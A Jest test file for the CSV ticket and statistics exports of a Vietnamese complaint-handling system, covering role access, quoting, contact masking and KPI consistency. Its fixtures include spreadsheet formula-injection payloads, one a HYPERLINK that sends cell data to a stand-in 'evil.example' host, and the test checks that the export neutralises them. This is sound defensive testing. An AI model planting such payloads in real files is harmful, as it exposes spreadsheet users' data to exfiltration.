import supertest from 'supertest';
import { ExportStore } from '../src/db/export-store';
import { formatCell, parseCsv } from '../src/exports/csv';
import { TICKET_COLUMNS } from '../src/exports/routes';
import type { IocSummary, KpiFigures } from '../src/ioc/summary';
import { seededRandom } from '../src/shared/random';
import { ENGINES } from './helpers/db';
import { loginAs, seedPeople, startTestHub, submitReport, type TestHub } from './helpers/hub';

/**
 * CSV exports for staff: the file parses back (RFC 4180) to exactly the tickets the ticket list
 * shows for the same period and role, contacts masked as the API masks them, formulas neutralised,
 * and stats.csv carries the IOC summary's KPI numbers unchanged.
 */

const KEY = 'ioc-export-key-5d1e07';
type Agent = Awaited<ReturnType<typeof loginAs>>;
type People = Awaited<ReturnType<typeof seedPeople>>;
type Records = Record<string, string>[];

/** March 2025, local: the bulk tickets live here, far from the live ones (created now). */
const MARCH = 'from=2025-03-01&to=2025-04-01';
const MARCH_ISO = `from=${encodeURIComponent('2025-03-01T00:00:00+07:00')}&to=${encodeURIComponent('2025-04-01T00:00:00+07:00')}`;
/** Two instants within one millisecond: a cursor kept in milliseconds would repeat tickets here. */
const TIE_A = '2025-03-15T10:00:00.123456+07:00';
const TIE_B = '2025-03-15T10:00:00.123457+07:00';
const COMMUNE = '99001';
const QUOTED = 'Ổ gà sâu, rộng; "rất nguy hiểm" cho xe máy\r\nđoạn 2, ngõ 5\nhết "câu"';
const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', '+84 gọi lại ngay', '-1+2 cmd', '@SUM(A1:A9)', '\tTab rồi =1+1', '\r\n=CR trước'];

type ListItem = {
  code: string; createdAt: string; channel: string; status: string; categoryCode: string | null; categoryName: string | null;
  priority: string; communeCode: string | null; agencyId: number | null; agencyName: string | null; assigneeId: number | null;
  slaResponseDueAt: string | null; slaResolutionDueAt: string | null; slaOutcome: string | null; slaBreachedAt: string | null;
  firstResponseAt: string | null; resolvedAt: string | null; closedAt: string | null; description: string; resolution: string | null;
};
type CitizenJson = { displayName: string | null; phone: string | null; email: string | null; masked: boolean };

const at = (s: string | null) => (s === null ? null : new Date(s));
const num = (cell: string | undefined) => (cell === undefined || cell === '' ? null : Number(cell));
const camel = (snake: string) => snake.replace(/_([a-z])/g, (_m, c: string) => c.toUpperCase());

describe.each(ENGINES)('CSV exports on %s', (engine) => {
  let t: TestHub;
  let p: People;
  let op: Agent, sup: Agent, admin: Agent, leadA: Agent, staffA: Agent;
  let communeName: string;
  const bulk = { n: 0, inMarch: 0, quotedCode: '', formulaCodes: [] as string[] };
  const live = { noConsentA: '', consentA: '', b: '', unrouted: '' };

  const ioc = (url: string) => supertest(t.app).get(url).set('Authorization', `Bearer ${KEY}`);

  async function csv(who: Agent, url: string): Promise<{ header: string[]; records: Records; text: string; disposition: string }> {
    const res = await who.get(url);
    if (res.status !== 200) throw new Error(`${url}: ${res.status} ${res.text}`);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const text = res.text;
    const [header, ...rows] = parseCsv(text);
    for (const r of rows) expect(r).toHaveLength(header!.length);
    return {
      header: header!, text, disposition: String(res.headers['content-disposition']),
      records: rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!]))),
    };
  }

  async function listAll(who: Agent, qs: string): Promise<ListItem[]> {
    const out: ListItem[] = [];
    for (let page = 1; ; page++) {
      const res = await who.get(`/api/v1/tickets?${qs}&sort=oldest&pageSize=100&page=${page}`);
      expect(res.status).toBe(200);
      out.push(...(res.body.items as ListItem[]));
      if (res.body.items.length === 0 || out.length >= res.body.total) return out;
    }
  }

  /** The export's cells for what the ticket list says about a ticket (all but the citizen and survey columns). */
  function fromList(item: ListItem): Record<string, string> {
    const agencyCode = item.agencyId === p.agencyA ? 'agency-a' : item.agencyId === p.agencyB ? 'agency-b' : null;
    const staff = Object.entries(p.ids).find(([, id]) => id === item.assigneeId)?.[0];
    const emails: Record<string, string> = {
      operator: 'op@test.vn', supervisor: 'sup@test.vn', admin: 'admin@test.vn', staffA: 'staff.a@test.vn', leadA: 'lead.a@test.vn',
      staffA2: 'staff2.a@test.vn', staffB: 'staff.b@test.vn',
    };
    return Object.fromEntries(Object.entries({
      code: item.code, received_at: at(item.createdAt), channel: item.channel, status: item.status,
      category_code: item.categoryCode, category_name: item.categoryName, priority: item.priority,
      commune_code: item.communeCode, commune_name: item.communeCode === COMMUNE ? communeName : null,
      agency_code: agencyCode, agency_name: item.agencyName, assignee: staff ? emails[staff]! : null,
      sla_response_due_at: at(item.slaResponseDueAt), sla_resolution_due_at: at(item.slaResolutionDueAt), sla_outcome: item.slaOutcome,
      sla_breached_at: at(item.slaBreachedAt), first_response_at: at(item.firstResponseAt), resolved_at: at(item.resolvedAt),
      closed_at: at(item.closedAt), description: item.description, resolution: item.resolution,
    }).map(([k, v]) => [k, formatCell(v)]));
  }

  const withoutPersonal = (r: Record<string, string>) => {
    const { citizen_name: _n, citizen_phone: _p, citizen_email: _e, citizen_contact_masked: _m,
      satisfaction_satisfied: _s, satisfaction_score: _sc, satisfaction_answered_at: _sa, ...rest } = r;
    return rest;
  };

  async function citizenSeenBy(who: Agent, code: string): Promise<CitizenJson> {
    const res = await who.get(`/api/v1/tickets/${code}`);
    expect(res.status).toBe(200);
    return res.body.citizen as CitizenJson;
  }

  const citizenCells = (c: CitizenJson) => ({
    citizen_name: formatCell(c.displayName), citizen_phone: formatCell(c.phone), citizen_email: formatCell(c.email),
    citizen_contact_masked: formatCell(c.masked),
  });

  async function submit(text: string, contact: Record<string, unknown>, agencyId: number | null, resolution?: string): Promise<string> {
    const r = await submitReport(t.app, { text, contact });
    expect(r.status).toBe(201);
    await t.hub.settle();
    const code = r.body.code as string;
    const tk = (await op.get(`/api/v1/tickets/${code}`)).body as { status: string };
    if (tk.status === 'received') expect((await op.post(`/api/v1/tickets/${code}/actions/triage`, { category: 'dien-chieu-sang', priority: 'normal' })).status).toBe(200);
    if (agencyId !== null) {
      expect((await op.post(`/api/v1/tickets/${code}/actions/assign`, { agencyId })).status).toBe(200);
      if (resolution !== undefined) {
        expect((await staffA.post(`/api/v1/tickets/${code}/actions/accept`)).status).toBe(200);
        expect((await staffA.post(`/api/v1/tickets/${code}/actions/resolve`, { resolution })).status).toBe(200);
      }
    }
    await t.hub.settle();
    return code;
  }

  beforeAll(async () => {
    t = await startTestHub(engine, { IOC_API_KEYS: KEY });
    p = await seedPeople(t.db);
    [op, sup, admin, leadA, staffA] = await Promise.all([
      loginAs(t.app, 'op@test.vn'), loginAs(t.app, 'sup@test.vn'), loginAs(t.app, 'admin@test.vn'),
      loginAs(t.app, 'lead.a@test.vn'), loginAs(t.app, 'staff.a@test.vn'),
    ]);
    await t.db.query(`INSERT INTO admin_units (structure, code, level, parent_code, name, full_name, unit_type, name_folded)
      VALUES ('2025', $1, 'commune', NULL, 'Phường Thử, Nghiệm', 'Phường Thử, Nghiệm', 'ward', 'phuong thu nghiem') ON CONFLICT DO NOTHING`, [COMMUNE]);
    communeName = (await t.db.query<{ name: string }>(`SELECT name FROM admin_units WHERE structure = '2025' AND code = $1`, [COMMUNE]))[0]!.name;

    // Bulk tickets of March 2025, inserted out of time order (ids do not follow created_at), with
    // ties inside one millisecond across the 1000-row page boundary, and the period's edges.
    const rng = seededRandom(6112026);
    const citizens = (await t.db.query<{ id: number }>(
      `INSERT INTO citizens (display_name, phone, email, contact_consent) VALUES
       ('Lê Văn Cường', '+84911222333', 'cuong@example.vn', false), ('Phạm Thị Dung', '+84944555666', 'dung@example.vn', true) RETURNING id`)).map((r) => r.id);
    const categories = (await t.db.query<{ code: string }>('SELECT code FROM categories ORDER BY sort_order LIMIT 4')).map((r) => r.code);
    const start = Date.parse('2025-03-01T00:00:00+07:00');
    const end = Date.parse('2025-04-01T00:00:00+07:00');
    const micro = (ms: number) => new Date(ms).toISOString().replace('Z', `${String(rng.int(0, 999)).padStart(3, '0')}Z`);
    const times: string[] = [
      ...Array.from({ length: 1200 }, () => TIE_A), ...Array.from({ length: 300 }, () => TIE_B),
      ...Array.from({ length: 796 }, () => micro(start + Math.floor(rng.next() * (end - start)))),
      '2025-03-01T00:00:00+07:00', '2025-03-31T23:59:59.999999+07:00',
    ];
    bulk.inMarch = times.length;
    times.push('2025-02-28T23:59:59.999999+07:00', '2025-04-01T00:00:00+07:00');
    for (let i = times.length - 1; i > 0; i--) { const j = rng.int(0, i); [times[i], times[j]] = [times[j]!, times[i]!]; }
    bulk.n = times.length;
    const statuses = ['received', 'assigned', 'in_progress', 'resolved', 'closed', 'rejected'];
    const rows = times.map((time) => {
      const status = rng.pick(statuses);
      const agency = rng.pick([p.agencyA, p.agencyB, null]);
      return {
        status, time, agency, citizen: rng.pick(citizens), category: rng.pick([...categories, null]),
        assignee: agency === p.agencyA && rng.next() < 0.5 ? p.ids.staffA : null, commune: rng.pick([COMMUNE, null]),
        resolution: status === 'resolved' || status === 'closed' ? `Đã xử lý xong, ${rng.int(1, 9)} "hạng mục"` : null,
        outcome: rng.pick(['on_time', 'late_with_extension', 'late', null]),
      };
    });
    const tag = Date.now().toString(36).toUpperCase();
    const inserted = await t.db.query<{ code: string }>(
      `INSERT INTO tickets (code, tracking_token, status, channel, citizen_id, category_code, agency_id, assignee_id, commune_code,
         description, search_text, resolution, created_at, updated_at, status_changed_at, first_response_at, resolved_at, closed_at,
         sla_outcome, sla_response_due_at, sla_resolution_due_at, sla_breached_at)
       SELECT 'EX-' || $1 || '-' || i, 'tok', st, 'phone', cit, cat, ag, asg, com, 'Phản ánh số ' || i, 'x', res, at, at, at,
         at + interval '2 hours',
         CASE WHEN st IN ('resolved', 'closed') THEN at + interval '3 days' END,
         CASE WHEN st = 'closed' THEN at + interval '4 days' END,
         CASE WHEN st IN ('resolved', 'closed') THEN outc END,
         at + interval '4 hours', at + interval '5 days',
         CASE WHEN outc = 'late' THEN at + interval '5 days' END
       FROM unnest($2::text[], $3::bigint[], $4::text[], $5::bigint[], $6::bigint[], $7::text[], $8::text[], $9::text[]::timestamptz[], $10::text[])
         WITH ORDINALITY AS u(st, cit, cat, ag, asg, com, res, at, outc, i)
       RETURNING code`,
      [tag, rows.map((r) => r.status), rows.map((r) => r.citizen), rows.map((r) => r.category), rows.map((r) => r.agency),
        rows.map((r) => r.assignee), rows.map((r) => r.commune), rows.map((r) => r.resolution), rows.map((r) => r.time), rows.map((r) => r.outcome)]);
    expect(inserted).toHaveLength(bulk.n);
    // Hard text on tickets of agency A (the lead sees them too).
    const inA = await t.db.query<{ code: string }>(
      `SELECT code FROM tickets WHERE agency_id = $1 AND created_at >= $2 AND created_at < $3 ORDER BY id LIMIT 7`,
      [p.agencyA, new Date(start), new Date(end)]);
    bulk.quotedCode = inA[0]!.code;
    await t.db.query('UPDATE tickets SET description = $2 WHERE code = $1', [bulk.quotedCode, QUOTED]);
    for (const [i, f] of FORMULAS.entries()) {
      bulk.formulaCodes.push(inA[i + 1]!.code);
      await t.db.query('UPDATE tickets SET description = $2 WHERE code = $1', [inA[i + 1]!.code, f]);
    }

    // Live tickets through the real API: intake, triage, assignment, resolution.
    live.noConsentA = await submit('Đèn đường hỏng, "tối om"\nngõ 7 phố Huế', { name: 'Nguyễn Văn An', phone: '0912345678', email: 'an@example.vn' },
      p.agencyA, 'Đã thay bóng, cảm ơn "ông An", hẹn gặp lại');
    live.consentA = await submit('=HYPERLINK("http://x.example","xem") đèn hỏng', { name: 'Trần Thị Bình', phone: '0987654321', shareWithAgency: true }, p.agencyA);
    live.b = await submit('Rác thải ùn ứ trước chợ Lớn', { phone: '0901112233' }, p.agencyB);
    live.unrouted = await submit('Cây đổ chắn ngang đường Trần Hưng Đạo', { phone: '0903334444' }, null);
  });
  afterAll(() => t.close());

  test('not logged in: 401 for both exports', async () => {
    for (const url of ['/api/v1/exports/tickets.csv', '/api/v1/exports/stats.csv']) {
      const res = await supertest(t.app).get(url);
      expect(res.status).toBe(401);
      expect(res.body.error.code).toBe('login_required');
      // An IOC key is not a staff session.
      expect((await supertest(t.app).get(url).set('Authorization', `Bearer ${KEY}`)).status).toBe(401);
    }
  });

  test('agency staff get 403 for both; an agency lead may export stats by agency only', async () => {
    for (const url of ['/api/v1/exports/tickets.csv', '/api/v1/exports/stats.csv', '/api/v1/exports/stats.csv?by=agency']) {
      const res = await staffA.get(url);
      expect(res.status).toBe(403);
      expect(res.body.error.code).toBe('role_not_allowed');
    }
    for (const by of ['category', 'commune']) {
      const res = await leadA.get(`/api/v1/exports/stats.csv?by=${by}`);
      expect(res.status).toBe(403);
      expect(res.body.error).toMatchObject({ code: 'export_by_agency_only' });
      expect(res.body.error.message).toMatch(/by=agency/);
      expect(res.body.error.messageEn).toMatch(/by agency only/);
    }
    expect((await leadA.get('/api/v1/exports/stats.csv?by=agency')).status).toBe(200);
    for (const who of [op, sup, admin]) {
      expect((await who.get('/api/v1/exports/tickets.csv')).status).toBe(200);
      expect((await who.get('/api/v1/exports/stats.csv?by=commune')).status).toBe(200);
    }
  });

  test('bad periods and parameters are a 400 that says what is wrong', async () => {
    const bad = async (url: string, re: RegExp) => {
      const res = await op.get(url);
      expect(res.status).toBe(400);
      expect(res.headers['content-type']).toMatch(/application\/json/);
      expect(`${res.body.error.message} ${res.body.error.messageEn}`).toMatch(re);
    };
    for (const path of ['/api/v1/exports/tickets.csv', '/api/v1/exports/stats.csv']) {
      await bad(`${path}?from=yesterday`, /ISO 8601/);
      await bad(`${path}?from=2025-03-01T00:00:00`, /ISO 8601/);
      await bad(`${path}?from=2025-03-02&to=2025-03-01`, /"to" must be after "from"/);
      await bad(`${path}?from=2024-01-01&to=2025-03-01`, /at most 400 days/);
      await bad(`${path}?from=1999-01-01&to=1999-02-01`, /2000–2099/);
      await bad(`${path}?lang=fr`, /lang/);
      await bad(`${path}?format=xlsx`, /format/);
    }
    await bad('/api/v1/exports/tickets.csv?status=open', /status/);
    await bad('/api/v1/exports/tickets.csv?agency=abc', /agency/);
    await bad('/api/v1/exports/tickets.csv?commune=Hà%20Nội', /commune/);
    await bad('/api/v1/exports/stats.csv?by=channel', /by/);
    // A period of exactly 400 days is allowed.
    expect((await op.get('/api/v1/exports/stats.csv?from=2024-02-01&to=2025-03-07')).status).toBe(200);
  });

  test('the file: BOM, CRLF, stable English headers (Vietnamese with lang=vi), attachment name of the period', async () => {
    const res = await op.get(`/api/v1/exports/tickets.csv?${MARCH}`);
    expect(res.status).toBe(200);
    expect(res.headers['content-disposition']).toBe('attachment; filename="tickets-2025-03-01-2025-03-31.csv"');
    expect(res.headers['cache-control']).toBe('no-store');
    const keys = TICKET_COLUMNS.map((c) => c.key);
    expect(keys).toEqual([
      'code', 'received_at', 'channel', 'status', 'category_code', 'category_name', 'priority', 'commune_code', 'commune_name',
      'agency_code', 'agency_name', 'assignee', 'sla_response_due_at', 'sla_resolution_due_at', 'sla_outcome', 'sla_breached_at',
      'first_response_at', 'resolved_at', 'closed_at', 'description', 'resolution',
      'satisfaction_satisfied', 'satisfaction_score', 'satisfaction_answered_at',
      'citizen_name', 'citizen_phone', 'citizen_email', 'citizen_contact_masked',
    ]);
    expect(res.text.startsWith(`\uFEFF${keys.join(',')}\r\n`)).toBe(true);
    // Every line break outside quoted text is CRLF: no bare LF or CR once quoted fields are removed.
    expect(res.text.replace(/"(?:[^"]|"")*"/g, '').replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    expect(res.text.endsWith('\r\n')).toBe(true);

    const vi = await csv(op, `/api/v1/exports/tickets.csv?${MARCH}&lang=vi`);
    expect(vi.header).toEqual(TICKET_COLUMNS.map((c) => c.vi));
    expect(vi.header.slice(0, 3)).toEqual(['Mã phản ánh', 'Thời điểm tiếp nhận', 'Kênh tiếp nhận']);
    expect(vi.records).toHaveLength(bulk.inMarch);

    const stats = await op.get(`/api/v1/exports/stats.csv?${MARCH}&by=commune`);
    expect(stats.headers['content-disposition']).toBe('attachment; filename="stats-commune-2025-03-01-2025-03-31.csv"');
    expect(stats.text.startsWith('\uFEFFcommune_code,commune_name,received,')).toBe(true);
  });

  test('rows equal the tickets of the period: same tickets, same order, same values as the ticket list (2,300 tickets, ties within a microsecond)', async () => {
    const { records } = await csv(op, `/api/v1/exports/tickets.csv?${MARCH}`);
    const list = await listAll(op, MARCH_ISO);
    expect(list).toHaveLength(bulk.inMarch);
    expect(records.map((r) => r.code)).toEqual(list.map((i) => i.code));
    expect(new Set(records.map((r) => r.code)).size).toBe(records.length);
    for (const [i, item] of list.entries()) expect(withoutPersonal(records[i]!)).toEqual(fromList(item));
    // The edges of the period: local midnight on 1 March is in, local midnight on 1 April is out.
    const received = records.map((r) => r.received_at);
    expect(received[0]).toBe('2025-03-01T00:00:00+07:00');
    expect(received[received.length - 1]).toBe('2025-03-31T23:59:59+07:00');
    expect(records.filter((r) => r.received_at === '2025-03-15T10:00:00+07:00')).toHaveLength(1500);
    // Operators see contacts as stored.
    const cuong = records.find((r) => r.citizen_name === 'Lê Văn Cường')!;
    expect(cuong).toMatchObject({ citizen_phone: "'+84911222333", citizen_email: 'cuong@example.vn', citizen_contact_masked: 'false' });
  });

  test('keyset pages: small pages give every ticket once, in received order', async () => {
    const store = new ExportStore(t.db);
    const period = { from: new Date('2025-03-01T00:00:00+07:00'), to: new Date('2025-04-01T00:00:00+07:00') };
    const pages: string[][] = [];
    for await (const page of store.ticketPages({ kind: 'all' }, period, 97)) pages.push(page.map((x) => x.code));
    expect(pages.slice(0, -1).every((pg) => pg.length === 97)).toBe(true);
    const direct = await t.db.query<{ code: string }>(
      'SELECT code FROM tickets WHERE created_at >= $1 AND created_at < $2 ORDER BY created_at, id', [period.from, period.to]);
    expect(pages.flat()).toEqual(direct.map((r) => r.code));
    const scoped: string[] = [];
    for await (const page of store.ticketPages({ kind: 'agency', agencyId: p.agencyB }, { ...period, status: ['resolved', 'closed'] }, 10)) {
      scoped.push(...page.map((x) => x.code));
    }
    const directB = await t.db.query<{ code: string }>(
      `SELECT code FROM tickets WHERE agency_id = $3 AND status IN ('resolved', 'closed') AND created_at >= $1 AND created_at < $2 ORDER BY created_at, id`,
      [period.from, period.to, p.agencyB]);
    expect(scoped).toEqual(directB.map((r) => r.code));
  });

  test('filters give what the ticket list gives', async () => {
    const category = (await t.db.query<{ code: string }>('SELECT code FROM categories ORDER BY sort_order LIMIT 1'))[0]!.code;
    const filters = [
      'status=resolved,closed', `category=${category}`, `agency=${p.agencyB}`, `commune=${COMMUNE}`,
      `status=rejected&agency=${p.agencyA}&commune=${COMMUNE}&category=${category}`,
    ];
    for (const f of filters) {
      const { records } = await csv(op, `/api/v1/exports/tickets.csv?${MARCH}&${f}`);
      const list = await listAll(op, `${MARCH_ISO}&${f}`);
      expect(records.length).toBeGreaterThan(0);
      expect(records.map((r) => r.code)).toEqual(list.map((i) => i.code));
    }
    // A lead filtering on another agency gets what the list gives them: nothing.
    const other = await csv(leadA, `/api/v1/exports/tickets.csv?${MARCH}&agency=${p.agencyB}`);
    expect(other.records).toEqual([]);
    expect(other.header).toEqual(TICKET_COLUMNS.map((c) => c.key));
  });

  test('commas, quotes and line breaks are quoted and come back unchanged', async () => {
    const { records, text } = await csv(op, `/api/v1/exports/tickets.csv?${MARCH}`);
    const row = records.find((r) => r.code === bulk.quotedCode)!;
    expect(row.description).toBe(QUOTED);
    expect(text).toContain(`"${QUOTED.replace(/"/g, '""')}"`);
    expect(row.commune_name === '' || row.commune_name === communeName).toBe(true);
    for (const r of records.filter((x) => x.resolution !== '')) expect(r.resolution).toMatch(/^Đã xử lý xong, \d "hạng mục"$/);
    const liveRows = (await csv(op, '/api/v1/exports/tickets.csv')).records;
    const resolved = liveRows.find((r) => r.code === live.noConsentA)!;
    expect(resolved.resolution).toBe('Đã thay bóng, cảm ơn "ông An", hẹn gặp lại');
    expect(resolved.description).toBe((await op.get(`/api/v1/tickets/${live.noConsentA}`)).body.description);
    expect(resolved.description).toContain('"tối om"');
  });

  test('formula injection is neutralised: such cells start with an apostrophe', async () => {
    const { records } = await csv(op, `/api/v1/exports/tickets.csv?${MARCH}`);
    for (const [i, code] of bulk.formulaCodes.entries()) {
      expect(records.find((r) => r.code === code)!.description).toBe(`'${FORMULAS[i]}`);
    }
    expect(records.flatMap((r) => Object.values(r)).filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
    const liveRows = (await csv(op, '/api/v1/exports/tickets.csv')).records;
    expect(liveRows.find((r) => r.code === live.consentA)!.description).toMatch(/^'=HYPERLINK\("http:\/\/x\.example","xem"\)/);
  });

  test('an agency lead gets only their agency\u2019s tickets, contacts masked as the API masks them', async () => {
    const march = await csv(leadA, `/api/v1/exports/tickets.csv?${MARCH}`);
    const list = await listAll(leadA, MARCH_ISO);
    const all = await listAll(op, MARCH_ISO);
    expect(list.length).toBeGreaterThan(0);
    expect(list.length).toBeLessThan(all.length);
    expect(march.records.map((r) => r.code)).toEqual(list.map((i) => i.code));
    expect(march.records.every((r) => r.agency_code === 'agency-a')).toBe(true);
    for (const [i, item] of list.entries()) expect(withoutPersonal(march.records[i]!)).toEqual(fromList(item));
    // Contacts as the ticket API shows them to the lead: masked without consent, shown with it.
    const sample = list.filter((_, i) => i % 25 === 0);
    for (const item of sample) {
      const row = march.records.find((r) => r.code === item.code)!;
      expect(row).toMatchObject(citizenCells(await citizenSeenBy(leadA, item.code)));
    }
    const masked = march.records.filter((r) => r.citizen_contact_masked === 'true');
    const shown = march.records.filter((r) => r.citizen_contact_masked === 'false');
    expect(masked.length).toBeGreaterThan(0);
    expect(shown.length).toBeGreaterThan(0);
    expect(masked.every((r) => r.citizen_name === 'L. V. C.' && r.citizen_email === 'c***@example.vn' && r.citizen_phone.includes('*'))).toBe(true);
    expect(shown.every((r) => r.citizen_name === 'Phạm Thị Dung' && r.citizen_phone === "'+84944555666")).toBe(true);
    expect(march.text).not.toContain('911222333');
    expect(march.text).not.toContain('cuong@example.vn');

    // The live tickets of the default period (the last 30 days): A's two, one masked, one not.
    const recent = await csv(leadA, '/api/v1/exports/tickets.csv');
    expect(recent.records.map((r) => r.code).sort()).toEqual([live.noConsentA, live.consentA].sort());
    for (const code of [live.noConsentA, live.consentA]) {
      const seen = await citizenSeenBy(leadA, code);
      expect(recent.records.find((r) => r.code === code)).toMatchObject(citizenCells(seen));
    }
    expect(recent.records.find((r) => r.code === live.noConsentA)).toMatchObject({ citizen_contact_masked: 'true', citizen_name: 'N. V. A.' });
    expect(recent.records.find((r) => r.code === live.consentA)).toMatchObject({ citizen_contact_masked: 'false', citizen_name: 'Trần Thị Bình' });
    expect(recent.text).not.toContain('912345678');
    expect(recent.text).not.toContain('an@example.vn');
  });

  test('operators, supervisors and admins see every ticket of the default period with contacts', async () => {
    for (const who of [op, sup, admin]) {
      const { records } = await csv(who, '/api/v1/exports/tickets.csv');
      expect(records.map((r) => r.code).sort()).toEqual(Object.values(live).sort());
      const row = records.find((r) => r.code === live.noConsentA)!;
      expect(row).toMatchObject({ ...citizenCells(await citizenSeenBy(who, live.noConsentA)), citizen_contact_masked: 'false', citizen_name: 'Nguyễn Văn An' });
      expect(row.citizen_email).toBe('an@example.vn');
      expect(row.agency_code).toBe('agency-a');
      expect(row.status).toBe('resolved');
      expect(row.resolved_at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+07:00$/);
      const list = await listAll(who, `from=${encodeURIComponent(new Date(Date.now() - 30 * 86_400_000).toISOString())}`);
      for (const item of list) expect(withoutPersonal(records.find((r) => r.code === item.code)!)).toEqual(fromList(item));
    }
  });

  test('satisfaction columns carry the citizen\u2019s answer', async () => {
    const answered = new Date('2025-03-20T09:15:00+07:00');
    await t.db.query(`UPDATE tickets SET satisfaction_satisfied = false, satisfaction_score = 2, satisfaction_answered_at = $2 WHERE code = $1`,
      [bulk.quotedCode, answered]);
    const { records } = await csv(op, `/api/v1/exports/tickets.csv?${MARCH}`);
    expect(records.find((r) => r.code === bulk.quotedCode)).toMatchObject({
      satisfaction_satisfied: 'false', satisfaction_score: '2', satisfaction_answered_at: '2025-03-20T09:15:00+07:00',
    });
    const other = records.find((r) => r.code !== bulk.quotedCode)!;
    expect(other).toMatchObject({ satisfaction_satisfied: '', satisfaction_score: '', satisfaction_answered_at: '' });
  });

  /** Rows of stats.csv against the summary's kpi groups, column by column. */
  function expectStatsEqual(header: string[], records: Records, groups: (KpiFigures & { code: string | null })[], overall: KpiFigures | null) {
    const kpiColumns = header.slice(2);
    expect(kpiColumns.map(camel).sort()).toEqual(Object.keys(overall ?? groups[0]!).filter((k) => k !== 'code' && k !== 'agency' && k !== 'agencyId' && k !== 'name' && k !== 'category' && k !== 'commune').sort());
    expect(records).toHaveLength(groups.length + (overall ? 1 : 0));
    const figures = (k: KpiFigures) => kpiColumns.map((c) => (k as unknown as Record<string, number | null>)[camel(c)] ?? null);
    for (const [i, g] of groups.entries()) {
      const row = records[i]!;
      expect(row[header[0]!]).toBe(g.code ?? '');
      expect(kpiColumns.map((c) => num(row[c]))).toEqual(figures(g));
    }
    if (overall) {
      const last = records[records.length - 1]!;
      expect(last[header[0]!]).toBe('overall');
      expect(kpiColumns.map((c) => num(last[c]))).toEqual(figures(overall));
    }
  }

  test('stats.csv numbers equal the IOC summary\u2019s kpi for the same period, by agency, category and commune', async () => {
    const today = new Date(Date.now() + 7 * 3_600_000).toISOString().slice(0, 10);
    const recent = `from=2026-01-01&to=${new Date(Date.parse(today) + 86_400_000).toISOString().slice(0, 10)}`;
    for (const period of [MARCH, recent, `from=${encodeURIComponent('2025-03-15T09:30:00+07:00')}&to=${encodeURIComponent('2025-03-15T12:00:00+07:00')}`]) {
      const res = await ioc(`/api/v1/ioc/summary?${period}`);
      expect(res.status).toBe(200);
      const summary = res.body as IocSummary;
      expect(summary.kpi.overall.received).toBeGreaterThan(0);
      const agency = await csv(op, `/api/v1/exports/stats.csv?${period}&by=agency`);
      expect(agency.header.slice(0, 2)).toEqual(['agency_code', 'agency_name']);
      expectStatsEqual(agency.header, agency.records, summary.kpi.byAgency.map((g) => ({ ...g, code: g.agency })), summary.kpi.overall);
      expect(agency.records.find((r) => r.agency_code === 'agency-a')!.agency_name).toBe('Đơn vị A');
      const category = await csv(op, `/api/v1/exports/stats.csv?${period}&by=category`);
      expectStatsEqual(category.header, category.records, summary.kpi.byCategory.map((g) => ({ ...g, code: g.category })), summary.kpi.overall);
      const commune = await csv(op, `/api/v1/exports/stats.csv?${period}&by=commune`);
      expectStatsEqual(commune.header, commune.records, summary.kpi.byCommune.map((g) => ({ ...g, code: g.commune })), summary.kpi.overall);
      if (period === MARCH) {
        expect(commune.records.find((r) => r.commune_code === COMMUNE)!.commune_name).toBe(communeName);
        expect(commune.records.find((r) => r.commune_code === '')!.commune_name).toBe('(no commune)');
        expect(agency.records.find((r) => r.agency_code === '')!.agency_name).toBe('(not routed)');
        const names = new Map((await t.db.query<{ code: string; name_vi: string }>('SELECT code, name_vi FROM categories')).map((r) => [r.code, r.name_vi]));
        for (const r of category.records.slice(0, -1)) expect(r.category_name).toBe(r.category_code === '' ? '(unclassified)' : names.get(r.category_code));
        // The same table with Vietnamese headers: the total row is "Tổng".
        const vi = await csv(op, `/api/v1/exports/stats.csv?${period}&by=agency&lang=vi`);
        expect(vi.header.slice(0, 5)).toEqual(['Mã đơn vị', 'Đơn vị', 'Tiếp nhận', 'Loại trừ (từ chối, gộp)', 'Thuộc diện xử lý']);
        expect(vi.records[vi.records.length - 1]!['Mã đơn vị']).toBe('Tổng');
        expect(vi.records.find((r) => r['Mã đơn vị'] === '')!['Đơn vị']).toBe('(chưa chuyển đơn vị)');
      }
    }
  });

  test('an agency lead\u2019s stats: their agency\u2019s row only, equal to the summary\u2019s, without the province total', async () => {
    const summary = (await ioc(`/api/v1/ioc/summary?${MARCH}`)).body as IocSummary;
    const mine = summary.kpi.byAgency.filter((g) => g.agencyId === p.agencyA);
    expect(mine).toHaveLength(1);
    const { header, records } = await csv(leadA, `/api/v1/exports/stats.csv?${MARCH}`);
    expect(records.map((r) => r.agency_code)).toEqual(['agency-a']);
    expectStatsEqual(header, records, mine.map((g) => ({ ...g, code: g.agency })), null);
    // A period in which agency A received nothing: the header alone.
    const empty = await csv(leadA, '/api/v1/exports/stats.csv?from=2024-01-01&to=2024-02-01');
    expect(empty.records).toEqual([]);
  });
});
